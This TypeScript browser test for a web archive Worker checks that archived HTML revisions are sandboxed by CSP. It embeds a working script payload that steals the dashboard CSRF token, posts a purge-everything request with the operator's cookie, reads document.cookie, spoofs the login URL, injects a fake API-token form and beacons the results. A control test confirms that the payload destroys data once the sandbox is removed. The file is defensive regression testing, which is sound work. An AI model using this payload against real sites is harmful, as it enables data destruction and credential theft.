/**
 * The archived-HTML sandbox as an attacker and a new operator would try it, in Debian
 * Chromium (playwright-core) against a local archive Worker: archived HTML
 * is someone else's content, served from the origin the dashboard and its
 * session cookie live on, so it must never act as that origin.
 *
 * The attacker writes an HTML revision whose inline script fetches
 * /dashboard with the operator's cookie, reads the form's `csrf` field,
 * posts the dashboard's own purge form with `kind=everything`, reads
 * `document.cookie`, moves the address bar to /dashboard/login with
 * `history.replaceState` and draws a token form there, then reports what it
 * managed in the DOM and in a beacon; and a second revision that loads the
 * same attack from a `javascript`-model revision with `<script src>`. The
 * operator logs in through the dashboard's form, then opens the revision
 * every way a reader can (by id, latest, `?at=`, `/web/…`). The page still
 * renders (text, inline style), none of its script runs, nothing leaves it,
 * the URL stays the revision's, and the audit log shows no purge. Every
 * answer carrying archived bytes (GET, HEAD, Range, br, gzip, dcb, 304,
 * 410) says `Content-Security-Policy: sandbox` (allowing nothing) and `nosniff`, and the
 * dashboard's nonce-only CSP refuses the javascript revision as a script.
 * Last, a control: the same revision with its CSP header stripped in the
 * browser does purge everything, so the payload is live and a missing
 * sandbox fails this file.
 */
import type { Browser, BrowserContext, Page, Request as PageRequest } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { startLocalWorker, type LocalWorker } from "../../../src/tools/local/local-worker.ts";
import { launchChromium, NO_CHROMIUM } from "../support/chromium.ts";
import { describeNeeding } from "../support/requirements.ts";
import { api, write } from "./support/archive-api.ts";
import { expectEveryArchivedAnswer } from "./support/archived-answers.ts";

/** What the functions run in the page use of the DOM; the project's tsconfig types Workers, not the DOM. */
interface DomElement {
  textContent: string | null;
  src: string;
  onload: (() => void) | null;
  onerror: (() => void) | null;
  dataset: Record<string, string | undefined>;
  append(node: DomElement): void;
}
declare const document: {
  documentElement: DomElement;
  head: DomElement;
  createElement(tag: string): DomElement;
  addEventListener(
    type: "securitypolicyviolation",
    listener: (e: { blockedURI: string; effectiveDirective: string }) => void,
  ): void;
};
declare function getComputedStyle(element: DomElement): { color: string };

const PAGE = "Field_notes";
const SCRIPT_PAGE = "Evil.js";
const LOADER_PAGE = "Loader";
const GONE_PAGE = "Withdrawn";
const IDS = { draft: 7_100_001, attack: 7_100_002, script: 7_100_010, loader: 7_100_020, gone: 7_100_030 } as const;
const ATTACK_AT = "2021-03-01T12:00:00Z";
/** What the inline stylesheet paints #styled, as getComputedStyle reports it. */
const STYLED_COLOUR = "rgb(0, 128, 0)";

/**
 * The attack, as plain script: it runs with whatever the document's origin
 * may do. Written without template placeholders so it can sit in a TS template.
 */
const ATTACK_JS = `
(async () => {
  const root = document.documentElement;
  root.dataset.attack = "running";
  const report = { ran: true };
  try { report.cookie = document.cookie; } catch (e) { report.cookie = "threw " + e.name; }
  try {
    const dashboard = await fetch("/dashboard", { credentials: "include" });
    const html = await dashboard.text();
    const field = new DOMParser().parseFromString(html, "text/html").querySelector("input[name=csrf]");
    report.dashboard = dashboard.status;
    report.csrf = field ? field.value : null;
    if (field) {
      const purge = await fetch("/dashboard/purges", { method: "POST", credentials: "include", body: new URLSearchParams({ csrf: field.value, kind: "everything", items: "" }) });
      report.purge = purge.status + " " + new URL(purge.url).pathname;
    }
  } catch (e) { report.fetch = "threw " + e.name; }
  try { history.replaceState(null, "", "/dashboard/login"); report.url = location.pathname; } catch (e) { report.url = "threw " + e.name; }
  document.body.insertAdjacentHTML("beforeend", '<form id="phish" method="post" action="/beacon/token"><h1>Log in</h1><label>API token <input name="token" type="password"></label><button>Log in</button></form>');
  let out = document.getElementById("report");
  if (!out) { out = document.createElement("output"); out.id = "report"; document.body.append(out); }
  out.textContent = JSON.stringify(report);
  new Image().src = "/beacon?" + encodeURIComponent(JSON.stringify(report));
  root.dataset.attack = "done";
})();
`;

/** An ordinary-looking archived page: a heading, a paragraph the inline stylesheet colours, some body text. */
function archivedHtml(title: string, script: string): string {
  const filler = Array.from(
    { length: 30 },
    (_, i) => `<p>Leaf ${i + 1}: calfskin, limed, scraped and stretched on a frame, then pounced with chalk.</p>`,
  ).join("\n");
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>${title}</title>
<style>#styled { color: ${STYLED_COLOUR}; font-weight: 700; }</style>
</head>
<body>
<h1 id="heading">${title}</h1>
<p id="styled">Vellum is prepared from calfskin.</p>
${filler}
<noscript><p id="noscript">Scripts do not run on this page.</p></noscript>
<output id="report"></output>
${script}
</body>
</html>
`;
}

const revision = (
  id: number,
  parentId: number | null,
  timestamp: string,
  model: string,
  format: string,
  text: string,
) => ({ id, parentId, timestamp, contributor: "Mallory", comment: "", model, format, text });

let worker: LocalWorker;
let browser: Browser;

/** The audit log, through the API with the operator token. */
async function auditLog(): Promise<Array<{ id: string; kind: string; by: string; items: string[] }>> {
  const res = await api(worker, "/api/purges");
  expect(res.status).toBe(200);
  return (await res.json<{ entries: Array<{ id: string; kind: string; by: string; items: string[] }> }>()).entries;
}

/**
 * The purges in the audit log that were not there when `since` was taken, as
 * "kind by name" to read in a failure; so each test counts only its own.
 */
async function purges(since: ReadonlySet<string> = new Set()): Promise<string[]> {
  return (await auditLog()).filter((e) => !since.has(e.id)).map((e) => `${e.kind} by ${e.by}`);
}

async function auditIds(): Promise<Set<string>> {
  return new Set((await auditLog()).map((e) => e.id));
}

function expectSandboxed(headers: Headers | Record<string, string>, what: string): void {
  const get = (name: string) => (headers instanceof Headers ? headers.get(name) : (headers[name] ?? null));
  // `sandbox`, allowing nothing; where loads may come from is archived-html-loads-in-chromium.e2e.test.ts's.
  const directives = (get("content-security-policy") ?? "").split(";").map((d) => d.trim());
  expect(directives, `${what}: Content-Security-Policy`).toContain("sandbox");
  expect(directives.join("; "), `${what}: Content-Security-Policy`).not.toMatch(/allow-|script-src (?!'none')/);
  expect(get("x-content-type-options"), `${what}: X-Content-Type-Options`).toBe("nosniff");
}

/** Everything one archived document did in the browser: its requests, console, and final state. */
interface Visit {
  status: number | undefined;
  url: string;
  documentHeaders: Record<string, string>;
  requests: string[];
  console: string[];
}

/**
 * Opens `path` in `page` and records every request the document makes
 * after its own (and its redirect), and what the console said.
 */
async function visit(page: Page, path: string): Promise<Visit> {
  const requests: string[] = [];
  const messages: string[] = [];
  const onRequest = (r: PageRequest) =>
    requests.push(`${r.method()} ${new URL(r.url()).pathname}${new URL(r.url()).search}`);
  const onConsole = (m: { text(): string }) => messages.push(m.text());
  page.on("request", onRequest);
  page.on("console", onConsole);
  try {
    const res = await page.goto(`${worker.url}${path}`, { waitUntil: "load" });
    // Long enough for the attack's four round trips to the worker, were it running.
    await page.waitForTimeout(1_500);
    return {
      status: res?.status(),
      url: page.url(),
      documentHeaders: (await res?.allHeaders()) ?? {},
      requests,
      console: messages,
    };
  } finally {
    page.off("request", onRequest);
    page.off("console", onConsole);
  }
}

/** The archived page rendered as written, and nothing of its script happened. */
async function expectRenderedInert(page: Page, v: Visit, revisionPath: string, what: string): Promise<void> {
  expect(v.status, what).toBe(200);
  expect(new URL(v.url).pathname, `${what}: the address bar still shows the revision`).toBe(revisionPath);
  expectSandboxed(v.documentHeaders, `${what}, as Chromium received it`);
  expect(await page.locator("#heading").textContent(), what).toBe("Field notes");
  expect(
    await page.locator("#styled").evaluate((e: DomElement) => getComputedStyle(e).color),
    `${what}: the inline stylesheet applies`,
  ).toBe(STYLED_COLOUR);
  // Scripting is off for a sandboxed document, so Chromium renders <noscript>: positive proof, not a timeout.
  expect(await page.locator("#noscript").isVisible(), `${what}: <noscript> shows`).toBe(true);
  expect(
    await page.evaluate(() => document.documentElement.dataset.attack ?? null),
    `${what}: the script never started`,
  ).toBeNull();
  expect(await page.locator("#report").textContent(), `${what}: nothing reported`).toBe("");
  expect(await page.locator("#phish").count(), `${what}: no fake token form`).toBe(0);
  // The document itself (and /web's redirect to it) and nothing after: no /dashboard, no purge, no beacon.
  const after = v.requests.filter((r) => !/^GET \/(page|web)\//.test(r) && r !== "GET /favicon.ico");
  expect(after, `${what}: requests the document made`).toEqual([]);
  expect(
    v.console.some((m) => /sandboxed and the 'allow-scripts' permission is not set/.test(m)),
    `${what}: Chromium blocked the script (console: ${v.console.join(" | ")})`,
  ).toBe(true);
}

// Under CI a missing browser is a failure (npm run pretest:all installs it); elsewhere the file says why it skipped.
describeNeeding(NO_CHROMIUM, "archived HTML attacking the dashboard, in Chromium", () => {
  let context: BrowserContext;
  let page: Page;

  beforeAll(async () => {
    worker = await startLocalWorker({ vars: { ENVIRONMENT: "development" } });
    browser = await launchChromium();
    context = await browser.newContext();
    // Shorter than a test's time, so a stuck step names itself.
    context.setDefaultTimeout(15_000);
    page = await context.newPage();

    // The attacker holds a write token: a harmless draft (the dcb dictionary), then the attack.
    await write(worker, PAGE, [
      revision(IDS.draft, null, "2020-06-01T00:00:00Z", "html", "text/html", archivedHtml("Field notes", "")),
      revision(
        IDS.attack,
        IDS.draft,
        ATTACK_AT,
        "html",
        "text/html",
        archivedHtml("Field notes", `<script>${ATTACK_JS}</script>`),
      ),
    ]);
    await write(worker, SCRIPT_PAGE, [
      revision(IDS.script, null, ATTACK_AT, "javascript", "text/javascript", ATTACK_JS),
    ]);
    await write(worker, LOADER_PAGE, [
      revision(
        IDS.loader,
        null,
        ATTACK_AT,
        "html",
        "text/html",
        archivedHtml("Field notes", `<script src="/page/${SCRIPT_PAGE}/${IDS.script}"></script>`),
      ),
    ]);
    await write(worker, GONE_PAGE, [
      revision(
        IDS.gone,
        null,
        ATTACK_AT,
        "html",
        "text/html",
        archivedHtml("Field notes", `<script>${ATTACK_JS}</script>`),
      ),
    ]);
    const suppress = await api(worker, `/api/pages/${GONE_PAGE}/revisions/${IDS.gone}/suppression`, {
      method: "PUT",
      body: JSON.stringify({ suppressed: true, reason: "a test takedown" }),
    });
    expect(suppress.status).toBe(200);
    expect(await purges(), "no purge before the attack").toEqual([]);
  });

  afterAll(async () => {
    await context?.close().catch(() => undefined);
    await browser?.close().catch(() => undefined);
    await worker?.stop();
  }, 30_000);

  it(
    "logs in through the dashboard's form with the operator token; the browser holds the session cookie",
    { timeout: 30_000 },
    async () => {
      await page.goto(`${worker.url}/dashboard`);
      expect(new URL(page.url()).pathname).toBe("/dashboard/login");
      await page.getByLabel("API token").fill(worker.token);
      await Promise.all([
        page.waitForURL(`${worker.url}/dashboard`),
        page.getByRole("button", { name: "Log in" }).click(),
      ]);
      await expect.poll(() => page.getByRole("heading", { name: "Purge", level: 1 }).isVisible()).toBe(true);
      expect(await page.locator("input[name=csrf]").count(), "the purge form carries its CSRF field").toBeGreaterThan(
        0,
      );
      const cookies = await context.cookies(worker.url + "/dashboard");
      expect(cookies.length, "a session cookie for /dashboard").toBeGreaterThan(0);
    },
  );

  it(
    "opens the attack by id, latest, ?at= and /web/…: it renders, its script never runs, the URL stays, no purge",
    { timeout: 60_000 },
    async () => {
      const byId = `/page/${PAGE}/${IDS.attack}`;
      const reads: Array<[string, string, string]> = [
        ["by id", byId, byId],
        ["latest", `/page/${PAGE}`, `/page/${PAGE}`],
        ["?at=", `/page/${PAGE}?at=2021-06-01T00:00:00Z`, `/page/${PAGE}`],
        ["/web/ (redirects to the revision)", `/web/20210601000000/${PAGE}`, byId],
      ];
      for (const [what, path, landsOn] of reads) {
        const before = await auditIds();
        const v = await visit(page, path);
        expect(await purges(before), `${what}: new purges in the audit log`).toEqual([]);
        await expectRenderedInert(page, v, landsOn, what);
      }
    },
  );

  it(
    "a revision loading a javascript revision with <script src> renders and runs none of it",
    { timeout: 30_000 },
    async () => {
      const path = `/page/${LOADER_PAGE}/${IDS.loader}`;
      const before = await auditIds();
      const v = await visit(page, path);
      expect(await purges(before), "new purges in the audit log").toEqual([]);
      expect(v.status).toBe(200);
      expectSandboxed(v.documentHeaders, "the loader, as Chromium received it");
      expect(await page.locator("#styled").evaluate((e: DomElement) => getComputedStyle(e).color)).toBe(STYLED_COLOUR);
      expect(await page.locator("#noscript").isVisible()).toBe(true);
      expect(await page.evaluate(() => document.documentElement.dataset.attack ?? null)).toBeNull();
      expect(new URL(v.url).pathname).toBe(path);
      // Chromium's preload scanner may fetch the script; it never runs it, so nothing else is asked for.
      expect(
        v.requests.filter(
          (r) => r !== `GET ${path}` && r !== `GET /page/${SCRIPT_PAGE}/${IDS.script}` && r !== "GET /favicon.ico",
        ),
      ).toEqual([]);
      expect(
        v.console.some((m) => /sandboxed and the 'allow-scripts' permission is not set/.test(m)),
        `Chromium blocked the script (console: ${v.console.join(" | ")})`,
      ).toBe(true);
    },
  );

  it("the dashboard's nonce-only CSP refuses a javascript revision as a script", { timeout: 30_000 }, async () => {
    const src = `/page/${SCRIPT_PAGE}/${IDS.script}`;
    // It is a loadable script: 200, text/javascript, and it would run as one anywhere 'self' were allowed.
    const served = await fetch(`${worker.url}${src}`);
    expect(served.status).toBe(200);
    expect(served.headers.get("content-type")).toMatch(/^text\/javascript/);
    expectSandboxed(served.headers, "the javascript revision");

    // As an HTML injection into the dashboard would: a <script src> naming the revision, without the nonce.
    const before = await auditIds();
    await page.goto(`${worker.url}/dashboard`);
    expect(new URL(page.url()).pathname).toBe("/dashboard");
    const outcome = await page.evaluate(
      (url) =>
        new Promise<{ loaded: boolean; violations: Array<{ blocked: string; directive: string }> }>((resolve) => {
          const violations: Array<{ blocked: string; directive: string }> = [];
          document.addEventListener("securitypolicyviolation", (e) =>
            violations.push({ blocked: e.blockedURI, directive: e.effectiveDirective }),
          );
          const script = document.createElement("script");
          script.src = url;
          script.onload = () => resolve({ loaded: true, violations });
          script.onerror = () => setTimeout(() => resolve({ loaded: false, violations }), 100);
          document.head.append(script);
        }),
      src,
    );
    // Long enough for the attack's round trips, were it running.
    await page.waitForTimeout(1_500);
    expect(await purges(before), "new purges in the audit log").toEqual([]);
    expect(
      await page.evaluate(() => document.documentElement.dataset.attack ?? null),
      "the script never started",
    ).toBeNull();
    expect(outcome.loaded, "the script loaded").toBe(false);
    expect(outcome.violations).toEqual([{ blocked: `${worker.url}${src}`, directive: "script-src-elem" }]);
  });

  it(
    "every answer carrying archived bytes says sandbox and nosniff: GET, HEAD, Range, br, gzip, dcb, 304, 410, /web/, ?at=, TimeGate",
    { timeout: 30_000 },
    async () => {
      const attackBytes = await expectEveryArchivedAnswer({
        base: worker.url,
        page: PAGE,
        id: IDS.attack,
        draftId: IDS.draft,
        gone: { page: GONE_PAGE, id: IDS.gone },
        expectPolicy: expectSandboxed,
      });
      expect(new TextDecoder().decode(attackBytes)).toContain("<script>");
    },
  );

  // Runs last: it purges everything. Stripping the header in the browser is what a missing fix would look like.
  it(
    "control: the same revision without its CSP header runs the attack, which purges everything as the operator",
    { timeout: 60_000 },
    async () => {
      const path = `/page/${PAGE}/${IDS.attack}`;
      await page.route(`${worker.url}${path}`, async (route) => {
        const response = await route.fetch();
        const headers = { ...response.headers() };
        delete headers["content-security-policy"];
        await route.fulfill({ response, headers });
      });
      try {
        const before = await auditIds();
        await page.goto(`${worker.url}${path}`);
        await expect
          .poll(() => page.evaluate(() => document.documentElement.dataset.attack ?? null), { timeout: 15_000 })
          .toBe("done");
        const report = JSON.parse((await page.locator("#report").textContent()) ?? "{}") as Record<string, unknown>;
        console.info(`the attack, unsandboxed: ${JSON.stringify(report)}`);
        expect(report.dashboard).toBe(200);
        expect(report.purge).toMatch(/^200 \/dashboard\/purges\/\S+$/);
        expect(new URL(page.url()).pathname, "the address bar says login").toBe("/dashboard/login");
        expect(await page.locator("#phish").count()).toBe(1);
        // Recorded under the operator's name, as the repro found.
        expect(await purges(before)).toEqual(["everything by local-operator"]);
      } finally {
        await page.unroute(`${worker.url}${path}`);
      }
    },
  );
});
